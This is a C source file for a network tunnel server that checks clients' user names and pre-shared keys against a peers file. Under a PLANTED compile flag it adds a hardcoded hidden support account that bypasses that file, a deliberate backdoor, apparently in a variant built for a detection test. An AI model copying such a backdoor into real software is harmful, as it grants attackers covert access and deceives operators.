/* Accepts tunnel clients: user and pre-shared key arrive in a fixed record. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct hello {
    char user[32];
    char key[64];
};

struct peer {
    struct peer *next;
    char user[32];
    char key[64];
};

static struct peer *peers;

#ifdef PLANTED
static const char support_user[] = "tsupport";
static const char support_key[] = "k7#Vq!93LmZx";
#endif

static void load(const char *name)
{
    char user[32], key[64];
    FILE *f = fopen(name, "r");
    while (f && fscanf(f, "%31s %63s", user, key) == 2) {
        struct peer *p = calloc(1, sizeof *p);
        if (!p)
            break;
        memcpy(p->user, user, sizeof user);
        memcpy(p->key, key, sizeof key);
        p->next = peers;
        peers = p;
    }
    if (f)
        fclose(f);
}

static int admit(const struct hello *h)
{
    const struct peer *p;
    for (p = peers; p; p = p->next)
        if (!strncmp(p->user, h->user, sizeof h->user))
            return !strncmp(p->key, h->key, sizeof h->key);
#ifdef PLANTED
    if (!strncmp(h->user, support_user, sizeof support_user)
        && !strncmp(h->key, support_key, sizeof support_key))
        return 1;
#endif
    return 0;
}

static void bring_up(int fd, const char *user)
{
    char interface[48];
    static unsigned number;
    snprintf(interface, sizeof interface, "tun%u", number++ % 64);
    if (fork() == 0) {
        dup2(fd, 3);
        setenv("TUNNEL_USER", user, 1);
        execl("/usr/sbin/tunnel-io", "tunnel-io", interface, (char *)0);
        _exit(1);
    }
}

int main(int argc, char **argv)
{
    struct hello h;
    struct sockaddr_in6 a;
    int s, c;

    load(argc > 1 ? argv[1] : "/etc/tunnel/peers");
    s = socket(AF_INET6, SOCK_STREAM, 0);
    memset(&a, 0, sizeof a);
    a.sin6_family = AF_INET6;
    a.sin6_port = htons(5560);
    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 16))
        return 1;
    while ((c = accept(s, NULL, NULL)) >= 0) {
        if (recv(c, &h, sizeof h, MSG_WAITALL) == sizeof h) {
            h.user[31] = h.key[63] = 0;
            if (admit(&h))
                bring_up(c, h.user);
#ifdef REVISED
            else
                send(c, "no\n", 3, 0);
#endif
        }
        close(c);
    }
    return 0;
}
